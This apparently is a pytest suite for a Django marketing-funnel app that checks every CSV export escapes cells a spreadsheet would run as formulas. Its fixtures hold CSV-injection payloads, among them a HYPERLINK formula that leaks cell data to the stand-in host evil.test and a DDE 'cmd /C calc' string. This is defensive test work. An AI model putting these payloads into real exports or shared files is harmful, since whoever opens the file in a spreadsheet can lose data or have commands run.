"""Every CSV export defuses cells a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import timedelta
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from analytics import ingest, rollups
from analytics.models import AdSpend, Visitor
from config import csvsafe
from leads import exports, services
from leads.models import Lead
from tests.factories import FunnelFactory, StepFactory

ROOT = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://evil.test/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        # Harmless values stay as they are: numbers (also negative), plain text.
        ("-12.50", "-12.50"),
        ("+44", "+44"),
        (-5, -5),
        ("Ada", "Ada"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_cell(value, written):
    assert csvsafe.cell(value) == written


def test_no_module_writes_csv_around_the_helper():
    """csv.writer appears only in the helper, so no export can forget it."""
    offenders = [
        str(path.relative_to(ROOT))
        for app in ("config", "accounts", "funnels", "analytics", "pages", "leads")
        for path in (ROOT / app).rglob("*.py")
        if "csv.writer(" in path.read_text() and path.name != "csvsafe.py"
    ]
    assert offenders == []


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.fixture
def bad_lead(workspace):
    return Lead.objects.create(
        workspace=workspace,
        email="victim@example.com",
        first_name=HYPERLINK,
        last_name="@SUM(1+1)*cmd|' /C calc'!A0",
        first_source="+cmd",
    )


@pytest.mark.django_db
def test_lead_csv_download(owner_client, bad_lead):
    response = owner_client.get(reverse("leads:export_csv"))
    rows = _rows(b"".join(response.streaming_content).decode())
    assert rows[1][:3] == [
        "victim@example.com",
        "'" + HYPERLINK,
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    assert rows[1][6] == "'+cmd"


@pytest.mark.django_db
def test_lead_export_written_by_the_worker(
    workspace, owner, bad_lead, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.EXPORTS_ROOT = tmp_path
    with django_capture_on_commit_callbacks(execute=True):
        export = services.lead_export_start(workspace=workspace, user=owner, query="")
    export.refresh_from_db()
    rows = _rows(exports.export_path(export).read_text(encoding="utf-8"))
    assert rows[1][1] == "'" + HYPERLINK


@pytest.mark.django_db
def test_orders_csv(owner_client, workspace):
    from funnels.models import StepOffer
    from leads import checkout
    from leads.gateways.testgateway import SUCCESS_CARD
    from tests.factories import ProductFactory, offers_freeze

    funnel = FunnelFactory(
        workspace=workspace, name="=1+1", published_at=timezone.now()
    )
    step = StepFactory(funnel=funnel, slug="order", kind="order", position=0)
    product = ProductFactory(workspace=workspace, name="Guide", price_minor=700)
    StepOffer.objects.create(workspace=workspace, step=step, product=product)
    offers_freeze(funnel)  # checkout charges only the offer a publish froze
    checkout.order_checkout(
        step=step,
        data={"email": "buyer@x.io"},
        payment_token=SUCCESS_CARD,
        with_bump=False,
        nonce="n1",
    )
    response = owner_client.get(reverse("leads:orders_csv"))
    rows = _rows(b"".join(response.streaming_content).decode())
    assert rows[1][4] == "'=1+1"


@pytest.fixture
def injected_funnel(workspace):
    """One visitor from a source named like a formula views a step named like one."""
    ingest.partitions_forget()
    funnel = FunnelFactory(workspace=workspace, name="Guide")
    step = StepFactory(funnel=funnel, name="=2+5", kind="optin", position=0)
    visitor = uuid.uuid4()
    Visitor.objects.create(workspace=workspace, public_id=visitor, utm_source=HYPERLINK)
    now = timezone.now() - timedelta(minutes=5)
    line = ingest.event_line(
        event_id=uuid.uuid4(),
        workspace_id=workspace.pk,
        funnel_id=funnel.pk,
        step_id=step.pk,
        visitor_id=visitor,
        kind="view",
        page_version_id=None,
        variant_id=None,
        amount_minor=None,
        currency="USD",
        properties=None,
        occurred_at=now,
        received_at=now,
    )
    ingest.lines_write([line], [])
    rollups.rollups_update()
    AdSpend.objects.create(
        workspace=workspace,
        source="@SUM(A1:A9)",
        date_from=timezone.localdate() - timedelta(days=3),
        date_to=timezone.localdate(),
        amount_minor=1000,
    )
    return funnel


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("table", "row", "column", "written"),
    [
        ("steps", 1, 0, "'=2+5"),
        ("sources", 1, 0, "'" + HYPERLINK),
        ("spend", 1, 0, "'@SUM(A1:A9)"),
    ],
)
def test_dashboard_csv(owner_client, injected_funnel, table, row, column, written):
    url = reverse("analytics:funnel_export", args=[injected_funnel.pk, table])
    rows = _rows(owner_client.get(url).content.decode())
    assert rows[row][column] == written
